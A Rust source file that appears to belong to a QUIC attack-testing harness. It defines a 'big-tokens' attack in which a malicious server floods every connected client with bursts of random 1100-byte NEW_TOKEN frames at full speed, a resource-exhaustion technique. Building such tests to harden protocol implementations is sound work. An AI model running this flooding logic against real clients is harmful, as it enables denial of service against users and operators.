//! Endless address validation tokens from a server.

use courser_base::Time;
use courser_crypto::Space;
use courser_wire::{Frame, NewToken};

use crate::attack::{Attack, Pace, Plan, Victim};
use crate::attacker::Attacker;
use crate::hooks::Honest;
use crate::{encode, server_tls};

/// The entry of the attack in the list.
pub(super) const PLAN: Plan = Plan {
    name: "big-tokens",
    labels: &["A13", "A37"],
    summary: "NEW_TOKEN frames of 1100 bytes at full speed, all different",
    victim: Victim::Client,
    make: || Box::new(BigTokens),
};

struct BigTokens;

/// Frames for one client in one turn.
const BURST: usize = 16;

impl Attack for BigTokens {
    fn start(&mut self, attacker: &mut Attacker) {
        attacker.accept_with(server_tls(b"h3"), || Box::new(Honest));
    }

    fn turn(&mut self, attacker: &mut Attacker, now: Time) -> Pace {
        for key in attacker.keys() {
            let Some(connection) = attacker.connection(key) else {
                continue;
            };
            if connection.is_closed() {
                attacker.forget(key);
                continue;
            }
            if !connection.is_established() {
                continue;
            }
            for _ in 0..BURST {
                let mut token = vec![0; 1100];
                connection.rng().fill(&mut token);
                let frame = encode(&Frame::NewToken(NewToken { token: &token }));
                connection.send_packet(now, Space::Application, vec![frame]);
            }
        }
        Pace::Now
    }
}
